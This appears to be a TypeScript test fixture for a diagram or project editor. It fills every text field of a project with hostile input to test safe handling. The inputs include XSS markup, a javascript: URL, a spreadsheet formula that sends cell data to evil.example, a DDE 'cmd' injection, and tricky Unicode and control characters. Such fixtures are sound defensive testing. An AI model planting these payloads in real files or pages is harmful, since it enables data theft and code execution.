import { limits, projectSchema, type Project } from '../../shared/project/project-schema.ts';
import { aLink, aNode, aProject } from './a-project.ts';

export const markup =
  '<img src="x:" onerror="hostile=1"><script>hostile=2</script></text><svg onload=hostile=3>&lt;b>';
/** What people and attackers put where a text is wanted. */
export const hostileTexts = {
  markup,
  'right-to-left': 'مسار السيروتونين \u202e5-HT',
  emoji: '🧠👩‍👩‍👧‍👦 e\u0301\u0302\u0303 ﷽',
  controls: 'A\tbell\u0007, nothing\u0000, a stray \ud800 and\r\na line',
  formula: '=HYPERLINK("https://evil.example/?"&A1;"see")',
  divided: "x;=1+1\n=cmd|' /C calc'!A0",
  // One word, which has nowhere to break, as long as a label may be.
  long: 'Neuro'.repeat(limits.labelLength / 5),
} as const;

/** Everything that a project can say, said by an attacker. */
export function hostileProject(title: string): Project {
  const short = (text: string) => text.slice(0, 1_900);
  return aProject({
    metadata: projectSchema.shape.metadata.parse({ title, description: hostileTexts.long }),
    references: Object.values(hostileTexts).map((text, at) => ({
      id: `r${at}`,
      authors: [short(text), short(text)],
      title: short(text),
      journal: short(text),
      doi: short(text),
      url: 'javascript:hostile=4',
    })),
    nodes: Object.entries(hostileTexts).map(([id, text], at) =>
      aNode({
        id,
        label: text,
        caption: text,
        notes: text,
        x: 300 * at,
        y: 60 * at,
        width: 160,
        height: 60,
        xrefs: [{ database: short(text), id: short(text) }],
        badges: [{ id: `b${at}`, kind: 'status', label: text, x: 1, y: -1, xrefs: [] }],
        evidence: [
          { reference: `r${at}`, stance: 'supports', grade: 'ungraded', quote: text, source: text },
        ],
      }),
    ),
    links: Object.entries(hostileTexts).map(([id, text], at) =>
      aLink({
        id: `link-${id}`,
        label: text,
        notes: text,
        source: id,
        target: { to: 'point', x: 300 * at, y: 500 },
      }),
    ),
  });
}
